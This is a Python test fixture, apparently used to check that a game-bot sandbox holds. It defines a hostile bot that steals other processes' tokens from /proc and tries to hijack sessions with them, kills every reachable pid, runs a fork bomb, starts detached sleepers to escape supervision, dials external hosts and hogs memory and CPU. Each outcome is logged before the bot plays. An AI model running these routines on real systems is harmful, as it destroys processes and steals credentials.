"""A managed bot that attacks everything around it, reports what it got, then plays.

Usage: attacker.py DB_FILE SERVER_DIR CANARY_PORT
At start it: dumps its environment; lists the descriptors it inherited; writes to the database
file by absolute path; writes into the server's working directory; lists /proc and reads every
other process's environ (and tries a stolen token); SIGKILLs every pid it can name; dials a TCP
port outside; forks until refused; starts a setsid child and a double-forked one that sleep
forever; sets its CPU affinity to every core. Each outcome goes to stderr as `ATTACK name:
outcome`. Then it plays legal random moves until its third match, where it allocates and
touches 4 GiB.
"""

from __future__ import annotations

import asyncio
import os
import random
import signal
import socket
import sqlite3
import subprocess
import sys
import time

import grpc

from cardshark.v1 import referee_pb2 as pb
from cardshark_bot import BotClient

DB_FILE, SERVER_DIR, CANARY_PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SLEEPER = "987654321"


def report(name: str, outcome: object) -> None:
    print(f"ATTACK {name}: {outcome}", file=sys.stderr, flush=True)


def attempt(name: str, action) -> None:  # type: ignore[no-untyped-def]
    try:
        report(name, f"succeeded {action()!r}")
    except BaseException as exc:  # every refusal is the evidence we want
        report(name, f"refused {type(exc).__name__}: {exc}")


def write_db() -> str:
    with sqlite3.connect(DB_FILE, timeout=1) as db:
        db.execute("CREATE TABLE pwned (x TEXT)")
    return "table created"


def append_db() -> int:
    with open(DB_FILE, "ab") as f:
        return f.write(b"pwned")


def write_server_dir() -> int:
    with open(os.path.join(SERVER_DIR, "pwned.txt"), "w") as f:
        return f.write("pwned")


def read_proc() -> str:
    seen = []
    stolen = []
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
            seen.append(f"{pid}={cmdline}")
            with open(f"/proc/{pid}/environ", "rb") as f:
                for var in f.read().split(b"\0"):
                    if var.startswith(b"CARDSHARK_TOKEN=") and pid != os.getpid():
                        stolen.append(var.split(b"=", 1)[1].decode())
        except OSError:
            continue
    for token in stolen:
        attempt("takeover", lambda t=token: take_over(t))  # type: ignore[misc]
    return f"{len(seen)} processes: {'; '.join(seen)}; tokens of others: {len(stolen)}"


def take_over(token: str) -> str:
    async def hello() -> str:
        async with grpc.aio.insecure_channel(os.environ["CARDSHARK_SERVER"]) as channel:
            play = channel.stream_stream(
                "/cardshark.v1.Referee/Play",
                request_serializer=pb.BotMessage.SerializeToString,
                response_deserializer=pb.RefereeMessage.FromString,
            )

            async def hello_only():  # type: ignore[no-untyped-def]
                yield pb.BotMessage(hello=pb.Hello(token=token, protocol_version=1))
                await asyncio.sleep(5)

            async for msg in play(hello_only()):
                return msg.WhichOneof("kind") or "?"
        return "closed"

    return asyncio.run(asyncio.wait_for(hello(), 5))


def kill_everyone() -> str:
    killed = []
    for pid in range(1, 1 << 16):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    return f"signalled {killed}"


def dial_out() -> str:
    outcomes = []
    for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
        try:
            socket.create_connection((host, CANARY_PORT), timeout=1).close()
            outcomes.append(f"{host} connected")
        except OSError as exc:
            outcomes.append(f"{host} {exc.errno}")
    if any("connected" in o for o in outcomes):
        return ", ".join(outcomes)
    raise OSError(", ".join(outcomes))


def fork_bomb() -> str:
    children = []
    try:
        for _ in range(10_000):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError as exc:
        refused = f"fork refused after {len(children)} children: {exc}"
    else:
        refused = ""
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if refused:
        raise OSError(refused)
    return f"{len(children)} children, never refused"


def escape() -> str:
    subprocess.Popen(["setsid", "sleep", SLEEPER], start_new_session=True)
    subprocess.run(["sh", "-c", f"setsid sleep {SLEEPER}1 >/dev/null 2>&1 &"], check=True)
    return "setsid sleepers started"


def inherited_fds() -> str:
    """Every descriptor open in this process at start, as fd=what (before gRPC opens any)."""
    seen = []
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        try:
            seen.append(f"{fd}={os.readlink(f'/proc/self/fd/{fd}')}")
        except OSError:
            continue  # the listing's own descriptor, closed by now
    return " ".join(seen)


def take_every_core() -> str:
    os.sched_setaffinity(0, range(os.cpu_count() or 1))
    return ",".join(map(str, sorted(os.sched_getaffinity(0))))


def main() -> None:
    report("env", dict(os.environ))
    attempt("fds", inherited_fds)
    attempt("db-write", write_db)
    attempt("db-append", append_db)
    attempt("server-dir", write_server_dir)
    attempt("proc", read_proc)
    attempt("signal", kill_everyone)
    attempt("dial-out", dial_out)
    attempt("fork", fork_bomb)
    attempt("setsid", escape)
    attempt("cores", take_every_core)
    matches: set[str] = set()
    streams: dict[str, random.Random] = {}  # a seeded stream per match

    def decide(request: pb.DecisionRequest) -> str:
        matches.add(request.match_id)
        if len(matches) >= 3:
            report("memory", "allocating 4 GiB")
            hog = bytearray(4 << 30)
            hog[:: 1 << 12] = b"\1" * len(range(0, 4 << 30, 1 << 12))
            report("memory", "survived with 4 GiB")
        rng = streams.setdefault(request.match_id, random.Random(request.random_seed))
        return str(rng.choice(request.legal_actions).id)

    client = BotClient(
        decide,
        server=os.environ["CARDSHARK_SERVER"],
        token=os.environ["CARDSHARK_TOKEN"],
        reconnect_s=5,
    )
    asyncio.run(client.run())


if __name__ == "__main__":
    main()
